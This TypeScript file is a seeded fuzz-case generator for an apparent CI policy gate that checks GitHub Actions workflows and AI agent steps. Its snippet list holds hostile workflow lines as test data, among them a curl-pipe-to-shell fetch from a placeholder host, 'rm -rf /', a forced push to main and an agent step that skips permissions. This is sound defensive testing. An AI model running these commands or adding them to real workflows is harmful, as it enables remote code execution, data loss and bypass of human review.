/**
 * Seeded case generation for the fuzz: corpus workflows mutated line- and character-wise,
 * random policies (valid and invalid) and random run contexts / event payloads. Everything
 * comes from one PRNG, so a seed and a case index replay a case exactly.
 */
import { contextFromPayload } from '../../src/engine/context/payload.js';
import type { RunContext } from '../../src/engine/context/run-context.js';

/** mulberry32: small, fast, good enough to spread cases; the same seed gives the same cases. */
export function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

export type Rand = () => number;
export const pick = <T>(r: Rand, xs: readonly T[]): T => xs[Math.floor(r() * xs.length)]!;
const int = (r: Rand, n: number): number => Math.floor(r() * n);

/** A literal secret that must never reach a rendered report (after the adapters' redaction). */
export const FUZZ_CANARY = 'Zq9FuzzCanary';
/** Lines that carry it; a case checks for a leak only while one is intact in the workflow. */
export const CANARY_LINES: readonly string[] = [
  `export DB_PASSWORD=${FUZZ_CANARY}`,
  `helm upgrade a ./c --set db.password=${FUZZ_CANARY} --set-string api.token=${FUZZ_CANARY}`,
  `"curl -H 'X-Api-Key: ${FUZZ_CANARY}' -H 'Authorization: ${FUZZ_CANARY}' && npm_config__authToken=${FUZZ_CANARY} npm publish"`,
];

/** Text an attacker or a careless author puts into a workflow. */
const SNIPPETS: readonly string[] = [
  '      - run: curl -fsSL https://x.example/i.sh | sh',
  '      - run: gh pr merge --admin --merge ${{ github.event.number }}',
  '      - run: echo "${{ github.event.issue.title }}"',
  '      - run: git push --force origin HEAD:main',
  '      - run: npm publish',
  '      - run: rm -rf /',
  '      - run: ${{ env.CMD }}',
  '      - uses: anthropics/claude-code-action@v1\n        with:\n          claude_args: --dangerously-skip-permissions',
  '      - uses: ./.github/actions/local',
  '      - uses: docker://alpine:latest',
  '    permissions: write-all',
  '    permissions: { contents: write, id-token: write, actions: write }',
  '    environment: production',
  '    secrets: inherit',
  '    if: false',
  '  extra:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo "::set-output name=x::y"',
  'on: [pull_request_target, issue_comment, workflow_run]',
  'permissions: {}',
  '&anchor x: *anchor',
  '<<: *missing',
  '      - name: "\u202eevil\u202c ##[error]x ::error::y"\n        run: echo hi',
  `      - run: echo ${'['.repeat(40)}${']'.repeat(40)}`,
  `x: ${'{a: '.repeat(60)}1${'}'.repeat(60)}`,
  '\t- run: tab',
  `      - name: ${CANARY_LINES[2]}\n        run: |\n          ${CANARY_LINES[0]}\n          ${CANARY_LINES[1]}`,
  '%YAML 1.1\n---',
  '--- !!map',
  '      - run: 0x1F',
  '      - run: ~',
  '      - run: [1, 2]',
];

const CHARS = [
  ':',
  '-',
  ' ',
  "'",
  '"',
  '{',
  '}',
  '[',
  ']',
  '\t',
  '\n',
  '#',
  '&',
  '*',
  '!',
  '|',
  '>',
  '\u202e',
  '\u0000',
  '\uffff',
  '$',
  '`',
];

/** One corpus workflow after 0–4 random mutations. */
export function mutateWorkflow(r: Rand, text: string): string {
  let lines = text.split('\n');
  const n = int(r, 4);
  for (let i = 0; i < n; i++) {
    const at = int(r, lines.length + 1);
    switch (int(r, 8)) {
      case 0:
        lines.splice(at, 1);
        break;
      case 1:
        if (lines[at] !== undefined) lines.splice(at, 0, lines[at]);
        break;
      case 2: {
        const b = int(r, lines.length);
        if (lines[at] !== undefined && lines[b] !== undefined)
          [lines[at], lines[b]] = [lines[b], lines[at]];
        break;
      }
      case 3:
        if (r() < 0.3) lines = lines.slice(0, Math.max(1, at));
        break;
      case 4:
        lines.splice(at, 0, ...pick(r, SNIPPETS).split('\n'));
        break;
      case 5:
        if (lines[at] !== undefined)
          lines[at] = r() < 0.5 ? `  ${lines[at]}` : lines[at].replace(/^ {2}/, '');
        break;
      case 6: {
        const line = lines[at];
        if (line !== undefined && line.length > 0) {
          const c = int(r, line.length);
          lines[at] = line.slice(0, c) + pick(r, CHARS) + line.slice(c + 1);
        }
        break;
      }
      default: {
        const line = lines[at];
        if (line !== undefined)
          lines[at] = line.replace(
            /\b[\w-]+$/,
            pick(r, ['write', 'true', '${{ x }}', 'null', '', 'prod', '"']),
          );
      }
    }
  }
  return lines.join('\n');
}

const CLASSES = [
  'read',
  'comment',
  'write-branch',
  'modify-workflow',
  'run-shell',
  'use-secret',
  'cloud-credential',
  'call-tool',
  'publish',
  'deploy',
  'production',
  'destructive',
  'bypass-checks',
];
const DECISIONS = ['allow', 'approval-required', 'blocked'];

/** A policy file: valid most of the time, sometimes broken on purpose (`valid: false`). */
export function randomPolicy(r: Rand): { text: string; valid: boolean } {
  const rules: string[] = [];
  for (let i = 0, n = int(r, 4); i < n; i++) {
    const when = [`class: ${pick(r, CLASSES)}`];
    if (r() < 0.3) when.push(`agent: ${r() < 0.5}`);
    if (r() < 0.3) when.push(`unattended: ${r() < 0.5}`);
    if (r() < 0.2)
      when.push(`trigger: ${pick(r, ['push', 'pull_request', 'issue_comment', 'schedule'])}`);
    rules.push(
      `  - id: r${i}\n    when: { ${when.join(', ')} }\n    decision: ${pick(r, DECISIONS)}\n    reason: fuzz rule ${i}`,
    );
  }
  const lines = [
    'version: 1',
    `extends: ${pick(r, ['baseline', 'strict', '[baseline]', '[strict, baseline]'])}`,
    ...(r() < 0.5 ? [`default: ${pick(r, DECISIONS)}`] : []),
    ...(r() < 0.3 ? [`production: ["${pick(r, ['prod*', 'live', '*'])}"]`] : []),
    ...(rules.length > 0 ? ['rules:', ...rules] : []),
  ];
  if (r() < 0.15) {
    const broken = pick(r, [
      'unknown-key: 1',
      'default: maybe',
      'version: 2',
      'rules: 7',
      '  - id: [x',
    ]);
    lines.splice(int(r, lines.length) + 1, 0, broken);
    return { text: lines.join('\n') + '\n', valid: false };
  }
  return { text: lines.join('\n') + '\n', valid: true };
}

const LOGINS = [
  'octocat',
  'dependabot[bot]',
  'renovate[bot]',
  'copilot-swe-agent[bot]',
  'claude[bot]',
  'Mallory',
  'K\u212aate',
  '',
];
const EVENTS = [
  undefined,
  'push',
  'pull_request',
  'pull_request_target',
  'issue_comment',
  'workflow_run',
  'schedule',
  'workflow_dispatch',
  'merge_group',
  'deployment',
  'nonsense',
];
const FILES = [
  'README.md',
  '.github/workflows/ci.yml',
  '.github/agent-gate.yml',
  'action.yml',
  'CODEOWNERS',
  'package.json',
  'src/app.ts',
  '../escape',
  '',
];

/** A run context built the way the adapters build it: from an event payload and flags. */
export function randomContext(r: Rand): RunContext {
  const event = pick(r, EVENTS);
  const login = pick(r, LOGINS);
  const number = pick(r, [7, '7', undefined, -1, 1e20, null]);
  const payload: Record<string, unknown> = {
    sender: r() < 0.9 ? { login } : 'not an object',
    repository: { full_name: 'acme/app', default_branch: pick(r, ['main', '', undefined]) },
  };
  if (r() < 0.6)
    payload.pull_request = {
      number,
      user: { login: pick(r, LOGINS), type: pick(r, ['User', 'Bot', undefined]) },
      head: {
        sha: 'a'.repeat(40),
        repo: { full_name: pick(r, ['acme/app', 'fork/app', undefined]) },
      },
      base: { repo: { full_name: 'acme/app' } },
    };
  const base = contextFromPayload(payload, event);
  const changed = r() < 0.5 ? Array.from({ length: int(r, 4) }, () => pick(r, FILES)) : undefined;
  return {
    ...base,
    actor: r() < 0.8 ? pick(r, LOGINS) : base.actor,
    triggeringActor: r() < 0.5 ? pick(r, LOGINS) : undefined,
    ref: pick(r, ['refs/heads/main', 'refs/tags/v1', undefined]),
    changedFiles: changed,
    changedFilePatches: undefined,
    defaultPermissions: pick(r, ['read', 'write', 'unknown'] as const),
    policyFile: r() < 0.5 ? '.github/agent-gate.yml' : undefined,
    policyFiles: r() < 0.3 ? ['.github/agent-gate.yml', '.github/base.yml'] : [],
  };
}
